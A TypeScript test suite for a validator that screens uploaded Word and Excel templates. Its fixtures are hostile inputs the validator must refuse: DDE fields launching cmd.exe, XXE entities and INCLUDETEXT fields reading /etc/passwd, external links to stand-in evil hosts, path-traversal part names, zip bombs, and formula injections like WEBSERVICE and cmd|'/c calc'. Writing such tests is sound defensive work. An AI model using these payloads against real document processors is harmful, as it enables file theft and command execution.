import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  documentParts,
  type PackageParts,
  paragraph,
  partsOf,
  RELATIONSHIPS,
  relationship,
} from '#test/template-factories.ts';
import { checkPackage } from './check-package.ts';
import { packParts, unpackParts } from './package-parts.ts';
import { paperDocx } from './paper-docx.ts';
import { paperXlsx } from './paper-xlsx.ts';
import { RefusedTemplate } from './refused-template.ts';
import { codeImage } from './template-images.ts';

const pack = (parts: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
    ),
  );

/** The keys of the refusal of these bytes; none: they are accepted. */
function refusal(bytes: Uint8Array): string[] {
  try {
    checkPackage(bytes);
    return [];
  } catch (error) {
    if (error instanceof RefusedTemplate)
      return error.problems.map(({ key }) => key.replace('paper_template.refused.', ''));
    throw error;
  }
}
const ofParts = (parts: PackageParts) => refusal(pack(parts));
const body = (xml: string, ...relationships: string[]) => ofParts(documentParts(xml, ...relationships));
const withPart = (name: string, text: string) => ofParts({ ...documentParts(paragraph('x')), [name]: text });
const field = (instruction: string) =>
  body(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );

describe('packages of templates', () => {
  it('accept a plain document, a link that a reader clicks, and page numbers', () => {
    expect(body(paragraph('{number}'))).toEqual([]);
    expect(body(paragraph('x'), relationship('rId9', 'hyperlink', 'https://example.uz/', true))).toEqual([]);
    expect(field(' PAGE \\* MERGEFORMAT ')).toEqual([]);
    expect(body('<w:p><w:fldSimple w:instr="NUMPAGES"><w:r/></w:fldSimple></w:p>')).toEqual([]);
  });

  it.each([
    ['attachedTemplate', 'http://evil.example/a.dotm'],
    ['image', 'file:///etc/passwd'],
    ['image', 'http://evil.example/pixel.png'],
    ['hyperlink', 'file://server/share'],
    ['oleObject', 'http://evil.example/a.ole'],
    ['frame', 'http://evil.example/'],
    ['subDocument', 'other.docx'],
  ])('refuse an external relationship of the type %s to %s', (type, target) => {
    expect(body(paragraph('x'), relationship('rId9', type, target, true))).toEqual(['external']);
  });

  it('refuse references of other types, and those that leave the package, also without a mode', () => {
    expect(body(paragraph('x'), relationship('rId9', 'aFChunk', 'document.xml'))).toEqual(['reference']);
    expect(body(paragraph('x'), relationship('rId9', 'image', '../../etc/passwd'))).toEqual(['external']);
    expect(body(paragraph('x'), relationship('rId9', 'image', 'file:///etc/passwd'))).toEqual(['external']);
    const mode = relationship('rId9', 'image', 'http://evil.example/', true).replace('External', 'EXTERNAL');
    expect(body(paragraph('x'), mode)).toEqual(['external']);
  });

  it.each([
    'INCLUDETEXT "/etc/passwd"',
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'DDE excel x',
    'HYPERLINK "file:///etc/passwd"',
    'IMPORT "/etc/passwd"',
    'QUOTE 73 78 67',
    'PAGE "x" INCLUDETEXT "/etc/passwd"',
    '',
  ])('refuse the field %s', (instruction) => {
    expect(field(instruction)).toEqual(['field']);
  });

  it('refuse a field whose name is spread over runs, hidden in CDATA, nested, or not closed', () => {
    const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
    const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
    const inside = (...parts: string[]) => body(`<w:p>${parts.join('')}</w:p>`);
    expect(inside(mark('begin'), run('INCLUDE'), run('TEXT "/etc/passwd"'), mark('end'))).toEqual(['field']);
    expect(inside(mark('begin'), run('<![CDATA[INCLUDETEXT "/etc/passwd"]]>'), mark('end'))).toEqual([
      'field',
    ]);
    expect(
      inside(mark('begin'), mark('begin'), run('PAGE'), mark('end'), run('INCLUDETEXT x'), mark('end')),
    ).toEqual(['field']);
    expect(inside(mark('begin'), run('INCLUDETEXT "/etc/passwd"'))).toEqual(['field']);
    expect(inside(run('INCLUDETEXT "/etc/passwd"'))).toEqual(['field']);
    expect(body('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>')).toEqual(['field']);
  });

  it.each([
    ['<w:altChunk r:id="rId5"/>', 'element'],
    ['<w:p><w:r><w:object/></w:r></w:p>', 'element'],
    ['<w:p><w:r><w:control r:id="rId5"/></w:r></w:p>', 'element'],
    ['<w:subDoc r:id="rId5"/>', 'element'],
    [
      '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:v" src="file:///etc/passwd"/></w:pict></w:r></w:p>',
      'element',
    ],
    ['<w:p><w:r><w:pict><v:rect xmlns:v="urn:v" href="file:///etc/passwd"/></w:pict></w:r></w:p>', 'element'],
  ])('refuse the element %s', (xml, key) => {
    expect(body(xml)).toEqual([key]);
  });

  it('refuse a mail merge and an attached template in the settings', () => {
    const settings = (xml: string) =>
      withPart('word/settings.xml', `<w:settings xmlns:w="urn:w">${xml}</w:settings>`);
    expect(settings('<w:mailMerge/>')).toEqual(['element']);
    expect(settings('<w:attachedTemplate id="rId1"/>')).toEqual(['element']);
  });

  it('refuse entities, other encodings and broken XML', () => {
    const entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
    const parts = documentParts(paragraph('x'));
    const text = parts['word/document.xml'] ?? '';
    expect(ofParts({ ...parts, 'word/document.xml': text.replace('?>', `?>${entity}`) })).toEqual([
      'entities',
    ]);
    expect(ofParts({ ...parts, 'word/document.xml': text.replace('UTF-8', 'UTF-16') })).toEqual([
      'malformed',
    ]);
    expect(ofParts({ ...parts, 'word/document.xml': text.replace('</w:body>', '') })).toEqual(['malformed']);
    expect(
      ofParts({ ...parts, 'word/document.xml': text.replace('?>', '?><?xml-stylesheet href="x"?>') }),
    ).toEqual(['malformed']);
    const utf16 = Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, strToU8(part)]));
    utf16['word/document.xml'] = new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
    expect(refusal(zipSync(utf16))).toEqual(['malformed']);
  });

  it.each([
    ['word/vbaProject.bin', 'macros'],
    ['word/embeddings/oleObject1.bin', 'object'],
    ['word/activeX/activeX1.xml', 'object'],
    ['xl/externalLinks/externalLink1.xml', 'object'],
    ['../../etc/cron.d/evil', 'name'],
    ['/etc/passwd', 'name'],
    ['word\\..\\..\\evil.xml', 'name'],
    ['word/./document2.xml', 'name'],
    ['word/fonts/font1.odttf', 'part'],
    ['word/media/image1.emf', 'part'],
    ['word/media/image1.svg', 'part'],
    ['evil.sh', 'part'],
  ])('refuse the part %s', (name, key) => {
    expect(withPart(name, '<x/>')).toEqual([key]);
  });

  it('refuse macros by their content type, and parts of types that no form has', () => {
    const parts = documentParts(paragraph('x'));
    const types = parts['[Content_Types].xml'] ?? '';
    const macro = types.replace(
      /application\/vnd[^"]*main\+xml/,
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    );
    expect(ofParts({ ...parts, '[Content_Types].xml': macro })).toEqual(['macros']);
    const other = types.replace(
      '</Types>',
      '<Override PartName="/word/x.xml" ContentType="text/html"/></Types>',
    );
    expect(ofParts({ ...parts, '[Content_Types].xml': other, 'word/x.xml': '<x/>' })).toEqual(['part']);
  });

  it('refuse names that differ in the case of letters alone, which programs read as one part', () => {
    expect(withPart('WORD/document.xml', '<x/>')).not.toEqual([]);
    expect(withPart('word/Document.xml', '<x/>')).toEqual(['name']);
  });

  it('refuse a bomb before it is unpacked, and one that says it is small', () => {
    const bomb = zipSync({
      ...Object.fromEntries(Object.entries(documentParts('')).map(([name, text]) => [name, strToU8(text)])),
      'word/media/a.png': new Uint8Array(20_000_000),
    });
    expect(bomb.length).toBeLessThan(200_000);
    expect(refusal(bomb)).toEqual(['large']);
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`word/media/${at}.png`, 'x']));
    expect(ofParts({ ...documentParts(''), ...many })).toEqual(['large']);
    const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.length);
    for (let at = 0; at < bomb.length - 4; at += 1)
      if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) === 20_000_000)
        view.setUint32(at + 24, 10, true);
    expect(unpackParts(bomb).get('word/media/a.png')).toHaveLength(10);
  });

  const EVIL = `xmlns:x="urn:x" Id="rId9" Target="file:///etc/passwd" TargetMode="External"`;
  it.each([
    [`<Relationship ${EVIL} Type="${RELATIONSHIPS}/image" x:Target="document.xml" x:TargetMode="Internal"/>`],
    [`<Relationship ${EVIL} Type="${RELATIONSHIPS}/oleObject" x:Type="x/image" x:TargetMode="Internal"/>`],
  ])('refuse a second attribute whose name differs in its prefix alone: %s', (reference) => {
    expect(body(paragraph('x'), reference)).toEqual(['malformed']);
  });

  it('refuse a field and a formula that a second attribute or an element within hides', async () => {
    const hidden = `<w:fldSimple xmlns:x="urn:x" w:instr="INCLUDETEXT &quot;/etc/passwd&quot;" x:instr="PAGE"/>`;
    expect(body(`<w:p>${hidden}</w:p>`)).toEqual(['malformed']);
    expect(field('<w:x>INCLUDETEXT "/etc/passwd"</w:x>')).toEqual(['malformed']);
    const parts = partsOf(await paperXlsx(PAPER));
    const [sheet = ''] = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/sheet'));
    for (const formula of [
      '<x>WEBSERVICE("http://evil")</x>',
      'WEBSERVICE("http://evil")<f/>',
      '<f/>WEBSERVICE("http://evil")',
      'WEBSERVICE<f>("http://evil")</f>',
    ]) {
      const row = `<row r="90"><c r="A90"><f>${formula}</f></c></row></sheetData>`;
      const changed = { ...parts, [sheet]: (parts[sheet] ?? '').replace('</sheetData>', row) };
      expect([formula, ofParts(changed)]).toEqual([formula, ['malformed']]);
    }
  });

  const picture = (bytes: string | Uint8Array, name = 'word/media/image1.png') =>
    refusal(
      pack({
        ...documentParts(paragraph('x'), relationship('rId9', 'image', name.replace('word/', ''))),
        [name]: bytes,
      }),
    );
  const blank = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: 'white' } });

  it('accept pictures of the three formats, also where the name says another one', async () => {
    expect(await blank(20, 10).png().toBuffer().then(picture)).toEqual([]);
    expect(await blank(20, 10).jpeg().toBuffer().then(picture)).toEqual([]);
    expect(await blank(20, 10).jpeg({ progressive: true }).toBuffer().then(picture)).toEqual([]);
    expect(await blank(20, 10).gif().toBuffer().then(picture)).toEqual([]);
    expect(picture(codeImage('https://example.uz').bytes)).toEqual([]);
  });

  it.each([
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file',
    '%PDF-1.7',
    'BM',
    'x',
    '',
  ])('refuse a picture that is called .png and begins as %s', (text) => {
    expect(picture(text)).toEqual(['media']);
  });

  it('refuse pictures that say nothing of their size, are animated, or fill the memory', {
    tags: 'long',
  }, async () => {
    const png = await blank(20, 10).png().toBuffer();
    expect(picture(png.subarray(0, 20))).toEqual(['media']);
    const chunk = Buffer.from('00000008 6163544c 0000000200000000 00000000'.replaceAll(' ', ''), 'hex');
    expect(picture(Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]))).toEqual(['media']);
    expect(picture(await blank(9_000, 9_000).png().toBuffer())).toEqual(['pixels']);
    expect(picture(await blank(9_000, 9_000).jpeg().toBuffer())).toEqual(['pixels']);
    const gif = await blank(20, 10).gif().toBuffer();
    // The frame is as large as it says, whatever the screen is.
    gif.writeUInt32LE(0xffff_ffff, gif.lastIndexOf(Buffer.from([0x2c, 0, 0, 0, 0, 20, 0])) + 5);
    expect(picture(gif)).toEqual(['pixels']);
  });

  it('refuse a picture that is another part', () => {
    expect(body(paragraph('x'), relationship('rId9', 'image', 'document.xml'))).toEqual(['external']);
  });

  it.each([
    'WEBSERVICE("http://evil")',
    "cmd|'/c calc'!A0",
    "'file:///etc/passwd'#$Sheet1.A1",
    '[1]Sheet1!A1',
    'HYPERLINK("http://evil")',
    'INDIRECT("A1")',
  ])('refuse the formula %s, and accept a sum', async (formula) => {
    const parts = partsOf(await paperXlsx(PAPER));
    const [sheet = ''] = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/sheet'));
    const withFormula = (text: string) =>
      ofParts({
        ...parts,
        [sheet]: (parts[sheet] ?? '').replace(
          '</sheetData>',
          `<row r="90"><c r="A90"><f>${text}</f></c></row></sheetData>`,
        ),
      });
    expect(withFormula('SUM(A1:A3)')).toEqual([]);
    expect(withFormula(formula.replaceAll('"', '&quot;'))).toEqual(['formula']);
  });

  it("accept the product's own forms, and pack the same parts anew", async () => {
    for (const bytes of [await paperDocx(PAPER), await paperXlsx(PAPER)]) {
      const { parts } = checkPackage(bytes);
      const again = checkPackage(packParts(parts));
      expect([...again.parts.keys()]).toEqual([...parts.keys()]);
    }
  });

  it('name what refuses a file', () => {
    try {
      checkPackage(
        pack(documentParts(paragraph('x'), relationship('rId9', 'image', 'http://evil.example/', true))),
      );
      expect.unreachable();
    } catch (error) {
      expect((error as RefusedTemplate).problems).toEqual([
        { key: 'paper_template.refused.external', values: { target: 'http://evil.example/' } },
      ]);
    }
    expect(RELATIONSHIPS).toContain('officeDocument');
  });
});

const PAPER = {
  title: 'Namuna',
  letterhead: {
    logo_file_id: null,
    header: '{university_header}',
    university: '{university_name}',
    contacts: '',
  },
  blocks: [
    { kind: 'title' as const, title: 'NAMUNA', subtitle: '№ {number}' },
    { kind: 'facts' as const, rows: [{ label: 'F.I.Sh.', value: '{student_name}' }] },
    {
      kind: 'table' as const,
      table: {
        widths: [1, 3],
        head: [[{ text: '№' }, { text: 'Fan' }]],
        body: [['{#subjects}{row}', '{name}{/subjects}']],
      },
    },
  ],
  closing: {
    signatures: [{ position: 'Rektor', name: 'A. Karimov' }],
    code: { url: '{verification_address}', caption: '' },
  },
  footer: '{number}',
};
